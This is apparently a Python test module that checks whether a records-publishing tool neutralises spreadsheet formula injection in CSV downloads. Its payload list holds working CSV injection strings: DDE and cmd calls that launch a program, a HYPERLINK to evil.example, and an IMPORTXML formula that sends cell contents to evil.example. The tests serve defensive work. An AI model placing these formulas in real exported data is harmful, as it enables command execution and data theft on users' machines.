"""Every CSV download neutralises formulas written in data; JSON keeps the text as written.

The payloads in decisions are built together, each in a decision of its own; those in the school's
name each need the school, and are built alone.
"""

from __future__ import annotations

import textwrap

from tests.adversarial.case import Case
from tests.adversarial.payloads import another_decision
from tests.conftest import MINIMAL_DATA

CATEGORY = "csv"
DECISION = "data/quyet_dinh/15-qd-ubnd-2026.yml"
UNIT = "data/don_vi/truong-thcs.yml"
PAYLOADS = {
    "hyperlink": '=HYPERLINK("https://evil.example/","Xem chi tiết")',
    "sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus-cmd": "+cmd|' /C calc'!A0",
    "minus-cmd": "-2+3+cmd|' /C calc'!A0",
    "dde": "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    "importxml": '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
}
# Where a CSV cell starts: after a comma or at the start of a line, quoted or not (looked for in
# the .csv files only).
STARTS = (",", ',"', "\n", '\n"')


def needles(payload: str) -> list[str]:
    head = payload[:6]
    return [start + head for start in STARTS]


def decision_with(field: str, payload: str) -> str:
    text = textwrap.dedent(MINIMAL_DATA[DECISION])
    if field == "trich_yeu":
        return text.replace("trich_yeu: Về việc tặng danh hiệu Lao động tiên tiến năm 2025",
                            f"trich_yeu: '{payload.replace(chr(39), chr(39) * 2)}'")
    return text.replace("ten: Tổ Toán - Tin", f"ten: '{payload.replace(chr(39), chr(39) * 2)}'")


CASES = [
    *(Case(f"{field}-{name}", CATEGORY, files=another_decision(100 + number, decision_with(field, payload)),
           expect_exit=0, must_not_publish=needles(payload), published_suffixes=(".csv",), batch="csv-decisions")
      for number, (field, (name, payload)) in enumerate(
          (field, item) for field in ("trich_yeu", "ten-tap-the") for item in PAYLOADS.items())),
    *(Case(f"unit-name-{name}", CATEGORY, expect_exit=0, must_not_publish=needles(payload), published_suffixes=(".csv",),
           files={UNIT: textwrap.dedent(MINIMAL_DATA[UNIT]).replace(
               "ten: Trường Trung học cơ sở Lê Thanh Nghị", f"ten: '{payload.replace(chr(39), chr(39) * 2)}'")})
      for name, payload in list(PAYLOADS.items())[:3]),
    # A legitimate dash-led text and negative numbers are published (the text with its apostrophe).
    Case("negative-target-stays-a-number", CATEGORY, expect_exit=0, legitimate=True,
         files={"data/ke_hoach/2026.yml": textwrap.dedent(MINIMAL_DATA["data/ke_hoach/2026.yml"]).replace(
             "gia_tri: 0.25", "gia_tri: -0.25")}),
]
